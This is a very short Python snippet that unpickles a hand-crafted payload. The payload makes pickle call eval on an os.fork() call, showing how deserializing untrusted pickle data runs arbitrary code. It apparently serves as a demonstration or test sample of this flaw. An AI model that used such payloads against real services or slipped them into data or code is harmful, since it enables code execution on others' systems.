import pickle
pickle.loads(b"cbuiltins\neval\n(S'__import__(\"os\").fork()'\ntR.")
